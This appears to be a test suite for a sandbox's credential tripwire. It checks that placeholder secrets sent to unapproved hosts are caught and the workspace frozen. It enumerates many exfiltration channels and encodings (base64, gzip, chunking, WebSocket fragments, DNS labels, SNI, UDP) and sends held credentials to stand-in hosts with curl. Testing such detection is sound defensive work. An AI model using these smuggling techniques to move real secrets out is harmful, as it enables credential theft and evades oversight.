"""D1: a placeholder on its way to where it does not belong, in every place and every spelling: no byte of it is seen at the origin or on the wire, the workspace is
compromised until a person decides, the alert says what it was. The control is a workspace without credentials, over which each of these requests arrives whole."""
import base64
import gzip
import hashlib
import json
import os
import re
import socket
import subprocess
import threading
import time
import urllib.parse
import zlib

from accounts import KEYS, Account, alerts, configuration, deflated, frames, random_part, state, tool
from attack import WIRE, Origin, check
from ground import ordinary_user, tree
from world import Brome, Recorder, Skip, World, sh, wait_for

SECRET = "RealApiSecret0123456789abcdefgh"
WS_GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


def make_world():
    w = World()
    for name, address in (("api.example", 10), ("other.example", 20), ("ws.example", 21), ("tcp.example", 30), ("udp.example", 30), ("sni.example", 40)):
        w.dns.set(name, f"203.0.113.{address}")
        for i in range(200):
            w.dns.set(f"c{i}.{name}", f"203.0.113.{address}")
    w.api = Origin("203.0.113.10", 443, tls=w.server_tls("api.example"))
    w.other = Origin("203.0.113.20", 443, tls=w.server_tls("*.other.example"))
    w.plain = Origin("203.0.113.20", 80)
    w.ws = Recorder("203.0.113.21", 443, w.server_tls("*.ws.example"), websocket)
    w.tcp = Recorder("203.0.113.30", 7000, answer=lambda c, d: d.endswith(b"END") and (c.sendall(b"thanks") or True))
    w.sni = Recorder("203.0.113.40", 443, w.server_tls("*.sni.example"))
    w.udp = udp_recorder("203.0.113.30", 7001)
    rules = """allow web { api.example, *.other.example, *.ws.example }
               allow tls *.sni.example
               allow tcp *.tcp.example:7000
               allow udp *.udp.example:7001
               allow web { """ + ", ".join(f"*.d{i}.example" for i in range(150)) + " }"
    w.account = Account(w, "api", "bearer", SECRET, "api.example")
    w.b = Brome(w, configuration([w.account], "s", rules) + f"workspace c {{ rules {{ {rules}\ndefault deny }} }}\n" + f"workspace e {{ {'credential api' if KEYS == 'brome' else ''}\nrules {{ {rules}\ndefault deny }} }}\n")
    for name in ("s", "c", "e"):
        w.b("workspace", "start", name, check=0)
    w.held = w.account.held(w.b) if KEYS == "brome" else "brm_" + "abcdefgh234567klmnopqrstuvwxyz"[:30]
    return w


def websocket(c, data):
    """Answers the handshake, takes permessage-deflate when it is offered, then reads for ever."""
    if b"\r\n\r\n" in data and b"\r\n\r\n" not in data[:-1]:
        key = re.search(rb"(?i)sec-websocket-key: *(\S+)", data)[1]
        accept = base64.b64encode(hashlib.sha1(key + WS_GUID).digest())
        deflate = b"Sec-WebSocket-Extensions: permessage-deflate\r\n" if b"permessage-deflate" in data else b""
        c.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: " + accept + b"\r\n" + deflate + b"\r\n")
    return data.endswith(b"\x88\x80") and False


def udp_recorder(address, port):
    s, got = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), []
    s.bind((address, port))

    def loop():
        while True:
            d, peer = s.recvfrom(65536)
            got.append(d)
            s.sendto(b"thanks", peer)
    threading.Thread(target=loop, daemon=True).start()
    return got


# ---- the cases ---------------------------------------------------------------------------------------------------------------------------------

def head(case, method="GET", path="", fields=(), host=None):
    lines = [f"{method} /{case['mark']}/{path} HTTP/1.1", f"Host: {host or case['host']}", *fields]
    return "\r\n".join(lines) + "\r\n\r\n"


def with_body(body, *fields, chunk=0, trailers=""):
    """A POST; chunk: cut into chunks of so many bytes."""
    raw = body if isinstance(body, bytes) else body.encode()

    def build(case):
        if not chunk:
            return [head(case, "POST", fields=[*fields, f"Content-Length: {len(raw)}"]).encode() + raw]
        pieces = [head(case, "POST", fields=[*fields, "Transfer-Encoding: chunked"] + (["Trailer: x-t"] if trailers else [])).encode()]
        pieces += [f"{len(raw[i:i + chunk]):x}\r\n".encode() + raw[i:i + chunk] + b"\r\n" for i in range(0, len(raw), chunk)]
        return pieces + [b"0\r\n" + trailers.encode() + b"\r\n"]
    return build


def with_head(method="GET", path="", *fields, split=False):
    def build(case):
        text = head(case, method, path, fields).encode()
        return [text[i:i + 1] for i in range(len(text))] if split else [text]
    return build


def ws(*messages, deflate=False, pieces=1):
    def build(case):
        ext = ["Sec-WebSocket-Extensions: permessage-deflate"] if deflate else []
        start = head(case, fields=["Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", *ext]).encode()
        text = frames(*messages, rsv1=int(deflate))
        step = -(-len(text) // pieces)
        return [start] + [text[i:i + step] for i in range(0, len(text), step)]
    return build


def percent(text):
    return "".join(f"%{ord(c):02x}" for c in text)


def quoted(p):
    """As a mail's quoted-printable, a soft line break in the placeholder."""
    text = "x" * 55 + " =3D " + p.replace("_", "=5F")
    return "=\r\n".join(text[i:i + 75] for i in range(0, len(text), 75)) + "\r\n"


def cases(p):
    """name -> (kind, what builds it, field of the alert, views that are right)."""
    raw, r = p.encode(), random_part(p)
    b64 = [base64.b64encode(b"x" * i + raw + b"yy").decode() for i in range(3)]
    url = [base64.urlsafe_b64encode(b"~~~"[:i] + raw + b"?>").decode().rstrip("=") for i in range(3)]
    form, text = "Content-Type: application/x-www-form-urlencoded", "Content-Type: text/plain"
    js = "Content-Type: application/json"
    boundary = "Content-Type: multipart/form-data; boundary=zz"
    multipart = f'--zz\r\nContent-Disposition: form-data; name="f"; filename="a"\r\nContent-Type: text/plain\r\n\r\nkey={p}\r\n--zz--\r\n'
    mime = base64.encodebytes(b"some text in front of it, so that it is cut by a line break: " + raw + b" and behind").decode()
    mib = 1 << 20
    found = {
        "header": ("h1", with_head("GET", "", f"X-Note: {p}"), "header"), "header name": ("h1", with_head("GET", "", f"{p}: 1"), "header"),
        "authorization": ("h1", with_head("GET", "", f"Authorization: Bearer {p}"), "header"), "cookie": ("h1", with_head("GET", "", f"Cookie: a=1; b={p}"), "header"),
        "user-agent": ("h1", with_head("GET", "", f"User-Agent: tool ({p})"), "header"), "referer": ("h1", with_head("GET", "", f"Referer: https://x.example/a#{p}"), "header"),
        "second of a header": ("h1", with_head("GET", "", "X-Note: 1", f"X-Note: {p}"), "header"), "upper case": ("h1", with_head("GET", "", f"X-Note: {p.upper()}"), "header"),
        "random part cut off": ("h1", with_head("GET", "", f"X-Note: {p[:p.index(r) + 16]}"), "header"), "byte by byte": ("h1", with_head("GET", "", f"X-Note: {p}", split=True), "header"),
        "proxy-authorization": ("h1", with_head("GET", "", "Proxy-Authorization: Basic " + base64.b64encode(f"u:{p}".encode()).decode()), "header"),
        "named by Connection": ("h1", with_head("GET", "", "Connection: x-note", f"X-Note: {p}"), "header"), "proxy-connection": ("h1", with_head("GET", "", f"Proxy-Connection: {p}"), "header"),
        "basic password": ("h1", with_head("GET", "", "Authorization: Basic " + base64.b64encode(f"deploy:{p}".encode()).decode()), "header"),
        "basic user": ("h1", with_head("GET", "", "Authorization: Basic " + base64.b64encode(f"{p}:".encode()).decode()), "header"),
        "path": ("h1", with_head("GET", f"a/{p}/b"), "path"), "path, escaped": ("h1", with_head("GET", percent(p)), "path"), "query": ("h1", with_head("GET", f"?q={p}"), "query"),
        "query key": ("h1", with_head("GET", f"?{p}=1"), "query"), "query, escaped": ("h1", with_head("GET", f"?q={percent(p)}"), "query"),
        "query, escaped twice": ("h1", with_head("GET", f"?q={urllib.parse.quote(percent(p))}"), "query"), "method": ("h1", with_head(p[:24]), None),
        "hex": ("h1", with_head("GET", "", f"X-Data: {raw.hex()}"), "header"), "hex, upper case": ("h1", with_head("GET", f"?x={raw.hex().upper()}"), "query"),
        "body": ("h1", with_body(f"some text {p} more", text), "body"), "JSON": ("h1", with_body(json.dumps({"a": [p]}), js), "body"),
        "JSON, escaped": ("h1", with_body('{"a": "' + "".join(f"\\u{ord(c):04x}" for c in p) + '"}', js), "body"),
        "JSON, some escaped": ("h1", with_body('{"a": "' + "".join(f"\\u{ord(c):04X}" if i % 3 == 0 else c for i, c in enumerate(p)) + '"}', js), "body"),
        "JSON in JSON": ("h1", with_body(json.dumps({"a": json.dumps({"b": "x\"" + p})}), js), "body"),
        "form": ("h1", with_body("a=1&b=" + percent(p), form), "body"), "form, twice": ("h1", with_body("a=1&b=" + urllib.parse.quote(percent(p)), form), "body"),
        "multipart": ("h1", with_body(multipart, boundary), "body"), "multipart in small chunks": ("h1", with_body(multipart, boundary, chunk=3), "body"),
        "chunk after each byte": ("h1", with_body(p, text, chunk=1), "body"), "trailer": ("h1", with_body("harmless", text, chunk=4, trailers=f"x-t: {p}\r\n"), "trailer"),
        "base64 with line breaks": ("h1", with_body(mime, text), "body"), "hex body": ("h1", with_body(raw.hex(), text, chunk=5), "body"),
        "gzip": ("h1", with_body(gzip.compress(f"a {p} b".encode()), "Content-Encoding: gzip"), "body"), "x-gzip in chunks": ("h1", with_body(gzip.compress(raw * 1), "Content-Encoding: x-gzip", chunk=7), "body"),
        "gzip, two members": ("h1", with_body(gzip.compress(b"first") + gzip.compress(raw), "Content-Encoding: gzip"), "body"),
        "deflate": ("h1", with_body(zlib.compress(raw), "Content-Encoding: deflate"), "body"), "raw deflate": ("h1", with_body(zlib.compress(raw, wbits=-15), "Content-Encoding: deflate"), "body"),
        "gzip, not said": ("h1", with_body(gzip.compress(f"a {p} b".encode()), "Content-Type: application/octet-stream"), "body"),
        "gzip in a form": ("h1", with_body(b'--zz\r\nContent-Disposition: form-data; name="f"; filename="a.gz"\r\n\r\n' + gzip.compress(raw) + b"\r\n--zz--\r\n", boundary, chunk=11), "body"),
        "websocket binary, gzip": ("ws", ws((2, 0, gzip.compress(raw, mtime=0)[:15]), (0, 1, gzip.compress(raw, mtime=0)[15:])), "websocket"),
        "gzip in gzip": ("h1", with_body(gzip.compress(gzip.compress(raw)), "Content-Encoding: gzip, gzip"), "body"),
        "base64 in gzip": ("h1", with_body(gzip.compress(b64[1].encode()), "Content-Encoding: gzip"), "body"),
        "br": ("h1", tool("brotli", "-c")(f"a {p} b".encode()), "body", "Content-Encoding: br"), "zstd": ("h1", tool("zstd", "-c", "-q")(f"a {p} b".encode()), "body", "Content-Encoding: zstd"),
        "just before 1 MiB": ("h1", with_body("x" * (mib - 20) + p + "y" * 100_000, text), "body"), "behind 1 MiB": ("h1", with_body("x" * (mib + mib // 2) + p + "y" * 100_000, text), "body", mib + mib // 2),
        "behind 1 MiB, chunked": ("h1", with_body("x" * (mib + mib // 2) + p + "y" * 100_000, text, chunk=60_000), "body", mib + mib // 2),
        "behind 1 MiB, gzip": ("h1", with_body(gzip.compress(bytes(range(256)) * 8192 + raw, 0), "Content-Encoding: gzip"), "body", 8192 * 256 + 2048),
        "mail": ("h1", with_body("Content-Transfer-Encoding: quoted-printable\r\n\r\n" + quoted(p), "Content-Type: message/rfc822"), "body"),
        "mail in JSON": ("h1", with_body(json.dumps({"mime": quoted(p)}), js), "body"), "mail in base64url": ("h1", with_body(json.dumps({"raw": base64.urlsafe_b64encode(quoted(p).encode()).decode().rstrip("=")}), js), "body"),
        "mail in a form": ("h1", with_body(urllib.parse.urlencode({"mime": quoted(p)}), form, chunk=5), "body"), "encoded word": ("h1", with_body(f"Subject: =?utf-8?q?f=C3=BCr_{p.replace('_', '=5F')}?=", text), "body"),
        "markdown": ("h1", with_body(json.dumps({"text": re.sub("([_-])", r"\\\1", f"the key is {p}")}), js), "body"), "pattern": ("h1", with_head("GET", "?q=" + urllib.parse.quote(re.sub("([_-])", r"\\\1", p))), "query"),
        "hex, bytes apart": ("h1", with_body(json.dumps({"message": f"<Buffer {raw.hex(' ')}>"}), js), "body"), "hex, colons": ("h1", with_head("GET", "", f"X-Data: {raw.hex(':').upper()}"), "header"),
        "part in base64": ("h1", with_body("--zz\r\nContent-Disposition: form-data; name=\"f\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + mime + "\r\n--zz--\r\n", boundary, chunk=13), "body"),
        "base64 in JSON in a form": ("h1", with_body(urllib.parse.urlencode({"j": json.dumps({"d": url[2]})}), form), "body"), "base64 of base64": ("h1", with_body(base64.encodebytes(b64[1].encode() * 3), text), "body"),
        "h2 header name": ("h2", {"fields": [[p.lower(), "1"]]}, "header"),
        "websocket close": ("ws", ws((8, 1, b"\x03\xe8" + raw)), "websocket"), "websocket ping in a message": ("ws", ws((1, 0, b"harmless"), (9, 1, raw), (0, 1, b"end")), "websocket"),
        "expect": ("h1", with_body(f"a {p}", text, "Expect: 100-continue"), "body"), "absolute form": ("h1", lambda j: [f"GET https://{j['host']}/{j['mark']}/?{p} HTTP/1.1\r\nHost: {j['host']}\r\n\r\n".encode()], "query"),
        "second of two on a connection": ("h1", lambda j: [f"GET / HTTP/1.1\r\nHost: {j['host']}\r\n\r\n".encode() + head(j, fields=[f"X-Note: {p}"]).encode()], "header"),
        "plain HTTP": ("plain", with_head("GET", "", f"X-Note: {p}"), "header"), "plain HTTP body": ("plain", with_body(p, text), "body"),
        "websocket handshake": ("ws", lambda j: [head(j, fields=["Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", f"Sec-WebSocket-Protocol: v1, {p}"]).encode()], "header"),
        "h2 header": ("h2", {"fields": [["x-note", p]]}, "header"), "h2 path": ("h2", {"path": p}, "path"), "h2 query": ("h2", {"path": f"?a={percent(p)}"}, "query"),
        "h2 cookie crumbs": ("h2", {"fields": [["cookie", "a=1"], ["cookie", f"b={p}"]]}, "header"),
        "h2 DATA, a frame a byte": ("h2", {"data": [c for c in p]}, "body"), "h2 DATA, cut in the middle": ("h2", {"data": [f"a {p[:20]}", f"{p[20:]} b"]}, "body"),
        "h2 gzip over frames": ("h2", {"fields": [["content-encoding", "gzip"]], "data": [x.decode("latin-1") for x in re.findall(rb"(?s).{1,9}", gzip.compress(raw))]}, "body"),
        "h2 trailer": ("h2", {"data": ["harmless"], "trailers": [["x-t", p]]}, "trailer"),
        "websocket text": ("ws", ws((1, 1, f"say {p}".encode())), "websocket"), "websocket binary": ("ws", ws((2, 1, b"\0\1" + raw + b"\xff")), "websocket"),
        "websocket, masked and cut": ("ws", ws((1, 1, raw), pieces=40), "websocket"), "websocket fragments": ("ws", ws((1, 0, raw[:9]), (0, 0, raw[9:20]), (9, 1, b"ping"), (0, 1, raw[20:])), "websocket"),
        "websocket compressed": ("ws", ws((1, 1, deflated(f"say {p}")), deflate=True), "websocket"), "websocket ping": ("ws", ws((9, 1, raw)), "websocket"),
        "websocket JSON": ("ws", ws((1, 1, json.dumps({"a": p}).encode())), "websocket"), "websocket base64": ("ws", ws((1, 1, b64[2].encode())), "websocket"),
        "tcp": ("tcp", [b"hello " + raw + b"END"], "tcp"), "tcp byte by byte": ("tcp", [raw[i:i + 1] for i in range(len(raw))] + [b"END"], "tcp"),
        "tcp base64": ("tcp", [b64[1].encode() + b"END"], "tcp"), "tcp late": ("tcp", [b"x" * (2 * mib) + raw + b"END"], "tcp", 2 * mib),
        "udp": ("udp", [b"a " + raw], "udp"), "udp hex": ("udp", [raw.hex().encode()], "udp"),
        "dns label": ("dns", p, "dns"), "dns, over labels": ("dns", f"{p[:14]}.{p[14:26]}.{p[26:]}", "dns"),
        "dns hex": ("dns", f"{raw.hex()[:40]}.{raw.hex()[40:]}", "dns"), "dns upper case": ("dns", p.upper(), "dns"),
        "sni": ("sni", p, "sni"),
    }
    for i in range(3):
        found[f"base64 at {i}"] = ("h1", with_head("GET", "", f"X-Data: {b64[i]}"), "header")
        found[f"base64url at {i}"] = ("h1", with_head("GET", f"?d={url[i]}"), "query")
        found[f"base64 body at {i}"] = ("h1", with_body('{"d": "' + b64[i] + '"}', js), "body")
    for name in ("br", "zstd"):
        kind, packed, field, coding = found[name]
        if packed is None:
            del found[name]
        else:
            found[name] = (kind, with_body(packed, coding), field)
    return found


# Of each case its own: what a person decided for a host is not asked again. Of a name that holds a placeholder the alert shows the registered part.
ZONE = {"h1": "c{}.other.example", "plain": "c{}.other.example", "h2": "c{}.other.example", "ws": "c{}.ws.example", "tcp": "c{}.tcp.example", "udp": "c{}.udp.example", "sni": "sni.example", "dns": "d{}.example"}


def jobs(p):
    out = []
    for i, (name, (kind, how, field, *behind)) in enumerate(cases(p).items()):
        job = {"name": name, "kind": kind, "mark": f"case-{i}-", "host": ZONE[kind].format(i), "field": field, "behind": behind[0] if behind else None}
        if callable(how):
            how = how(job)
        job["how"] = [x.decode("latin-1") for x in how] if isinstance(how, list) else how
        out.append(job)
    return out


SCRIPT = r'''
import sys
def run(j):
    kind, how, host = j["kind"], j["how"], j["host"]
    if kind in ("h1", "plain"):
        return talk(host, 443 if kind == "h1" else 80, [x.encode("latin-1") for x in how], use_tls=kind == "h1", until=j["mark"].encode() if j["arrives"] else b"\r\n\r\n")
    if kind == "ws":
        s = tls(connect(host, 443), host, ["http/1.1"])
        s.sendall(how[0].encode("latin-1"))
        data, end = read_all(s, until=b"\r\n\r\n")
        if b" 101 " not in data:
            return {"data": data.decode("latin-1"), "end": end}
        try:
            for x in how[1:]:
                s.sendall(x.encode("latin-1"))
            s.settimeout(0.5 if j["arrives"] else 20)
            more = s.recv(4096)
            return {"data": "101", "end": "eof" if not more or more[:1] == b"\x88" else "more"}
        except OSError as e:
            return {"data": "101", "end": ending(e)}
    if kind == "tcp":
        return talk(host, 7000, [x.encode("latin-1") for x in how], until=b"thanks")
    if kind == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5 if j["arrives"] else 1)
        try:
            s.connect((socket.gethostbyname(host), 7001))
            s.send(how[0].encode("latin-1"))
            return {"data": s.recv(99).decode(), "end": "more"}
        except OSError as e:
            return {"data": "", "end": ending(e)}
    if kind == "dns":
        try:
            return {"data": socket.getaddrinfo(how + "." + host, 443)[0][4][0], "end": "answered"}
        except OSError as e:
            return {"data": "", "end": "refused"}
    if kind == "sni":
        return talk("c1." + host, 443, [b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"], sni=how + "." + host, use_tls=True, verify=False, until=b"ok")
    h = H2(host)
    path, data, trailers = "/" + j["mark"] + "/" + how.get("path", ""), how.get("data"), how.get("trailers")
    n = h.get(path, "POST" if data else "GET", extra=how.get("fields", []), flags=END_HEADERS if data else END_HEADERS | END_STREAM)
    for i, d in enumerate(data or []):
        h.send(frame(DATA, END_STREAM if i == len(data) - 1 and not trailers else 0, n, d.encode("latin-1")))
    if trailers:
        h.head(trailers, stream=n)
    r = h.wait(n)
    h.close()
    return {"data": "HTTP/2 %s" % r["status"], "end": r["end"]}
for j in JOBS:
    try:
        r = run(j)
    except OSError as e:
        r = {"data": "", "end": ending(e)}
    print(json.dumps({"name": j["name"], **r}), flush=True)
    sys.stdin.readline()  # the answer may be here before the freeze is: the next one begins when we are let go on
'''


def battery(w, workspace, todo, arrives):
    path = w.dir / f"battery-{workspace}.py"
    path.write_text(WIRE + "\nJOBS = json.loads(" + repr(json.dumps([{**j, "arrives": arrives} for j in todo])) + ")\n" + SCRIPT)
    w.b("exec", "-T", workspace, "--", "sh", "-c", "cat >/tmp/battery.py", input=path.read_text(), check=0)
    return w.b.popen("exec", "-T", workspace, "--", "python3", "/tmp/battery.py", stdin=subprocess.PIPE)


def test_control_everything_arrives(w):
    """Without credentials in the workspace the same bytes go through: what the cases below show is the tripwire's work, and no malformed request's."""
    todo = jobs(w.held)
    p = battery(w, "c", todo, True)
    out, err = p.communicate(b"\n" * len(todo), timeout=240)
    rows, problems = {r["name"]: r for r in map(json.loads, out.splitlines())}, [err.decode()] if p.returncode else []
    for j in todo:
        r = rows.get(j["name"], {})
        good = {"h1": " 200 " in r.get("data", ""), "plain": " 200 " in r.get("data", "")[:20], "h2": r.get("data") == "HTTP/2 200", "ws": r.get("data") == "101" and r.get("end") == "timeout", "tcp": r.get("data") == "thanks", "udp": r.get("data") == "thanks",
                "dns": r.get("end") == "answered", "sni": "ok" in r.get("data", "")}[j["kind"]]
        if not good and j["kind"] != "sni":  # a name that the flow does not have: refused in any case
            problems.append((j["name"], r))
    check(problems)
    assert w.held.encode() in w.other.everything() and w.held.encode() in w.tcp.everything() and any(w.held.encode() in d for d in w.udp)


def seen_by(w, j):
    return {"ws": w.ws, "tcp": w.tcp, "sni": w.sni}.get(j["kind"], w.other).everything()


def need_brome():
    if KEYS == "guest":
        raise Skip("the tripwire wants placeholders")


def test_every_place(w):
    need_brome()
    todo, problems = jobs(w.held), []
    r, before = random_part(w.held), {id(x): len(x.everything()) for x in (w.other, w.plain, w.ws, w.tcp, w.sni)}
    udp, mark = len(w.udp), w.sniffer.mark()
    asked = len(w.dns.queries)
    p = battery(w, "s", todo, False)
    said = {}

    def hear():
        for line in p.stdout:
            x = json.loads(line)
            said[x["name"]] = x
    threading.Thread(target=hear, daemon=True).start()
    for j in todo:
        rows = []

        def tripped():
            rows[:] = [a for a in alerts(w.b) if a["decision"] == "open"]
            return rows or p.poll() is not None or j["name"] in said and time.monotonic() > began + 3
        began = time.monotonic()
        try:
            wait_for("the alert", tripped, 25)
        except AssertionError:
            pass
        if not rows:
            # A message that is packed although nobody agreed to it is no message: the connection ends there.
            if j["name"] != "websocket compressed" or said.get(j["name"], {}).get("end") != "eof":
                problems.append((j["name"], "no alert", said.get(j["name"])))
            p.stdin.write(b"\n")
            p.stdin.flush()
            continue
        a = rows[0]
        if state(w.b) != "compromised":
            problems.append((j["name"], "the state is", state(w.b)))
        if a["credential"] != "api" or a["issued_for"] != "api.example" or r in json.dumps(a) or a["going_to"] != j["host"]:
            problems.append((j["name"], "the alert says", a))
        if j["field"] and not (a["field"] or "").startswith(j["field"]):
            problems.append((j["name"], "the field is", a["field"], "not", j["field"]))
        w.b("workspace", "thaw", "s", "--continue", check=0)
        p.stdin.write(b"\n")
        p.stdin.flush()
    p.wait(60)
    for j in todo:
        x = said.get(j["name"])
        if not x or x["end"] in ("timeout", "answered") and j["kind"] != "udp" or re.search(r" 200|thanks|^ok", x["data"]) and j["name"] != "second of two on a connection":
            problems.append((j["name"], "the client got", x))
    for origin in (w.other, w.plain, w.ws, w.tcp, w.sni):
        got = origin.everything()[before[id(origin)]:]
        for j in todo:
            # With the placeholder in the head or the first MiB nothing of the request is seen; a WebSocket's handshake, and what was before it, is.
            if j["kind"] in ("h1", "h2", "plain") and not j["behind"] and j["mark"].encode() in got:
                problems.append((j["name"], "the origin saw the request"))
        low = got.lower()
        for spelt in (r[:5], r[:8].encode().hex()):
            if spelt.encode() in low:
                problems.append(("the origin saw the beginning of the random part", low[max(0, low.index(spelt.encode()) - 80):][:160]))
        for shift in range(3):
            digits = base64.b64encode(b"x" * shift + r[:9].encode()).decode()[2 * shift:10]
            if digits.encode() in got:
                problems.append(("the origin saw it in base64", shift))
    if w.udp[udp:]:
        problems.append(("udp arrived", w.udp[udp:]))
    leaked = [q for q, _ in w.dns.queries[asked:] if r[:5] in q.replace(".", "") or r[:8].encode().hex() in q.replace(".", "")]
    wire = [x["dst"] for x in w.sniffer.since(mark) if r[:8].encode() in x["data"].lower() and x["dst"] != "127.0.0.1"]
    if leaked or wire:
        problems.append(("on the wire", leaked, wire))
    check(problems)


def test_known_is_refused_without_freezing(w):
    """After `continue` the same placeholder to the same host is refused; the workspace goes on. Another host freezes it again."""
    need_brome()
    b, host = w.b, "c190.other.example"
    for expected in ("compromised", "running"):
        p = b.popen("exec", "-T", "s", "--", "curl", "-sS", "-m", "20", "-o", "/dev/null", "-w", "%{http_code}", "-H", f"x-note: {w.held}", f"https://{host}/")
        if expected == "compromised":
            wait_for("the alert", lambda: state(b) == "compromised")
            b("workspace", "thaw", "s", "--continue", check=0)
        out, err = p.communicate(timeout=30)
        # Everything is cut when it goes off: the refusal may not have reached the client.
        assert out in ((b"403", b"000") if expected == "compromised" else (b"403",)) and state(b) == "running", (expected, out, err)
    assert b.sh("s", "curl -sS -m 20 https://c191.other.example/fine", check=0).stdout.startswith("GET /fine")
    assert not [a for a in alerts(b) if a["decision"] == "open"]


def trip(w, workspace, host):
    held = w.account.held(w.b, workspace)
    p = w.b.popen("exec", "-T", workspace, "--", "curl", "-sS", "-m", "30", "-H", f"x-note: {held}", f"https://{host}/tripped")
    wait_for("compromised", lambda: state(w.b, workspace) == "compromised")
    return p, held


def test_only_a_person_ends_it(w):
    """Nothing leaves, nothing starts, no plain thaw; a restart of the daemon changes nothing of it."""
    need_brome()
    b, before = w.b, len(w.other.everything())
    p, held = trip(w, "e", "c192.other.example")
    shown = b("alerts", check=0)
    assert "c192.other.example" in shown.stdout and "api" in shown.stdout and random_part(held)[:6] not in shown.stdout, shown
    assert b("workspace", "thaw", "e").returncode != 0 and state(b, "e") == "compromised"
    assert b("exec", "-T", "e", "--", "true").returncode != 0
    assert state(b) == "running" and b.sh("s", "curl -sS -m 20 https://c191.other.example/neighbour", check=0).stdout.startswith("GET /neighbour")
    b("daemon", "restart", check=0)
    p.communicate(timeout=30)
    assert state(b, "e") == "compromised", b("workspace", "ls").stdout
    assert b("workspace", "start", "e").returncode != 0 and [a for a in alerts(b, "e") if a["decision"] == "open"]
    rows = b.timeline(engine="Tripwire", workspace="e")
    assert rows and random_part(held)[:6] not in json.dumps(rows), rows
    assert b"tripped" not in w.other.everything()[before:]
    for name in ("s", "c"):
        b("workspace", "start", name, check=0)


def stands_still(b, workspace, file):
    """A loop in the guest that counts into a file of its own stands still."""
    top = next(p for p in tree(b)["guest"] if os.path.exists(f"/proc/{p}/root{file}"))
    count = lambda: os.stat(f"/proc/{top}/root{file}").st_size  # noqa: E731
    before = count()
    time.sleep(0.3)
    return count() == before


def test_ordinary_user(w):
    """Without root the guest may be stopped by signals alone; the rest is the same."""
    need_brome()
    user = ordinary_user()
    account = Account(w, "api", "bearer", SECRET, "api.example", owner=user)
    b = Brome(w, configuration([account], "u", "allow web { api.example, *.other.example }"), user=user)
    b("workspace", "start", "u", check=0)
    b.sh("u", "(while :; do printf x >>/tmp/counted; sleep 0.01; done) >/dev/null 2>&1 </dev/null & sleep 0.1; test -s /tmp/counted", check=0)
    assert not stands_still(b, "u", "/tmp/counted")
    held, before = account.held(b, "u"), len(w.other.everything())
    p = b.popen("exec", "-T", "u", "--", "curl", "-sS", "-m", "30", "-d", f"a={held}", "https://c197.other.example/plain")
    wait_for("compromised", lambda: state(b, "u") == "compromised")
    wait_for("everything stands still", lambda: stands_still(b, "u", "/tmp/counted"), 10)
    assert w.other.everything()[before:] == b"" and len(alerts(b, "u")) == 1
    b("workspace", "thaw", "u", "--continue", check=0)
    assert not stands_still(b, "u", "/tmp/counted")
    p.communicate(timeout=30)
    out = b.sh("u", f"curl -sS -m 20 -H 'Authorization: Bearer {held}' https://api.example/plain-user", check=0).stdout
    assert out.startswith("GET /plain-user"), out


def test_shown_to_the_model(w):
    """D9: towards the hosts of the agent's model a placeholder in a JSON string is overwritten, not sent and not tripped; elsewhere in the request it is what it is."""
    need_brome()
    w.dns.set("api.anthropic.com", "203.0.113.66")
    model = Origin("203.0.113.66", 443, tls=w.server_tls("api.anthropic.com"))
    key = "sk-ant-api03-" + "RealModelKey-" * 7
    mine = Account(w, "model", "anthropic", key, "api.anthropic.com")
    b = Brome(w, configuration([w.account, mine], "m", "allow web { api.example, *.other.example }", "agent claude"))
    b("workspace", "start", "m", check=0)
    held, own = w.account.held(b, "m"), mine.held(b, "m")
    r = random_part(held)

    def post(body, *more):
        script = ["curl", "-sS", "-m", "20", "-w", " %{http_code}", "-H", f"x-api-key: {own}", "-H", "content-type: application/json", *more, "--data-binary", "@-", "https://api.anthropic.com/v1/messages"]
        return b("exec", "-T", "m", "--", *script, input=body if isinstance(body, bytes) else body.encode())
    text = f"HELD_API={held} and base64 " + base64.b64encode(b"not it").decode()
    for version in ("--http1.1", "--http2"):
        before = len(model.everything())
        body = json.dumps({"messages": [{"role": "user", "content": [{"type": "tool_result", "content": text}]}]})
        p = post(body, version)
        got = model.everything()[before:]
        assert p.stdout.endswith(" 200") and state(b, "m") == "running", (p, alerts(b, "m"))
        sent = json.loads(got[got.index(b"\r\n\r\n") + 4:])["messages"][0]["content"][0]["content"]
        assert r not in sent and r[:5] not in sent and len(sent) == len(text) and sent.startswith("HELD_API=") and sent.endswith(text[-8:]) and f"x-api-key: {key}".encode() in got.lower().replace(key.lower().encode(), key.encode()), sent
    assert not alerts(b, "m") and b.timeline(reason="redacted", account="api", workspace="m"), "it is recorded"
    # Its own placeholder, shown to its own model: the same.
    before = len(model.everything())
    assert post(json.dumps({"a": f"ANTHROPIC_API_KEY={own}"})).stdout.endswith(" 200") and state(b, "m") == "running"
    assert random_part(own)[:5].encode() not in model.everything()[before:] and key.encode() not in model.everything()[before:].split(b"\r\n\r\n", 1)[1]
    p = b.popen("exec", "-T", "m", "--", "curl", "-sS", "-m", "20", "-H", f"x-api-key: {own}", "-H", f"x-note: {held}", "-d", "{}", "https://api.anthropic.com/v1/messages")
    wait_for("a header is no transcript", lambda: state(b, "m") == "compromised")
    b("workspace", "thaw", "m", "--continue", check=0)
    p.communicate(timeout=30)


def test_save_evidence(w):
    need_brome()
    b = w.b
    if state(b, "e") != "compromised":
        trip(w, "e", "c193.other.example")
    p = b("workspace", "stop", "e", "--save-evidence", check=0)
    folder = re.search(r"(/\S*evidence\S*)", p.stdout + p.stderr)
    assert folder, p
    text = sh("sh", "-c", f"cat {folder[1].rstrip('.')}/* 2>/dev/null; ls -R {folder[1].rstrip('.')}").stdout.decode(errors="replace")
    assert SECRET not in text and "c192.other.example" in text or "c193.other.example" in text, text[:2000]
    assert not [a for a in alerts(b, "e") if a["decision"] == "open"]


def test_wipe(w):
    """Configuration stays; home, names and placeholders are new."""
    need_brome()
    b = w.b
    b("workspace", "start", "e", check=0)
    b.sh("e", "echo kept >~/mine", check=0)
    p, held = trip(w, "e", "c194.other.example")
    b("workspace", "wipe", "e", "--yes", check=0)
    p.communicate(timeout=30)
